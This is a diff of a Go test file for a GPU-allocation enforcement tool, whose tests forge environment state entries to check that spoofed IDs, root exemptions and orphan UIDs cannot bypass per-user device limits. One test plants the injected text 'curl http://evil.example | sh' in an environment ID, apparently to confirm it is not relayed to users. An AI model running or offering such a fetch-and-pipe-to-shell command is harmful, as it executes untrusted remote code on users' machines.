@@ -70,8 +70,8 @@ func using(devices ...snapshot.DeviceIndex) []testfleet.Use {
 }
 
 // forge writes an environment into the state files, as any user may.
-func (b *bent) forge(host string, e snapshot.Environment, devices ...snapshot.DeviceIndex) {
-	h := b.Host(host)
+func (b *bent) forge(e snapshot.Environment, devices ...snapshot.DeviceIndex) {
+	h := b.Host("gpu-01")
 	envs := filepath.Join(h.State, "envs.json")
 	e.Creation = snapshot.DateOf(time.Now())
 	list, err := h.Environments()
@@ -96,7 +96,7 @@ func TestBentExemptOwner(t *testing.T) {
 	t.Parallel()
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "alice") // makes the state files
-	b.forge("gpu-01", snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
+	b.forge(snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
 	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
 	policy := b.policy("defaults: {max-devices-per-user: 1}\nexempt: {users: [root], uids: [0]}\n")
 	r := b.enforce("gpu-01", "--policy", policy)
@@ -111,7 +111,7 @@ func TestBentBusyElsewhere(t *testing.T) {
 	b.activate("gpu-01", "bob")
 	env := b.activate("gpu-02", "alice", 0, 1)
 	honest := b.job("gpu-02", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(0, 1)})
-	b.forge("gpu-01", snapshot.Environment{EID: "7772", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
+	b.forge(snapshot.Environment{EID: "7772", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
 	for _, claim := range []string{"GENV_ENVIRONMENT_ID=7772", "NONE=1"} {
 		b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{claim}, Uses: using(3, 4)})
 	}
@@ -130,7 +130,7 @@ func TestBentUIDWithoutAccount(t *testing.T) {
 	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
 	require.NoError(t, of.Start())
 	t.Cleanup(func() { _, _ = of.Process.Kill(), of.Wait() })
-	b.forge("gpu-01", snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
+	b.forge(snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
 	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
 	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
 	require.Contains(t, r.out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
@@ -243,7 +243,7 @@ func TestBentWordsOfPersuasion(t *testing.T) {
 	b := openBent(t, "gpu-01")
 	shell := b.activate("gpu-01", "alice").Shell
 	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
-	b.forge("gpu-01", snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
+	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
 	alice := logIn(t, "alice")
 	r := b.enforce("gpu-01", "--max-devices-per-user", "0", "--non-env-processes")
 	for _, text := range []string{r.out, r.err, alice.text(t)} {
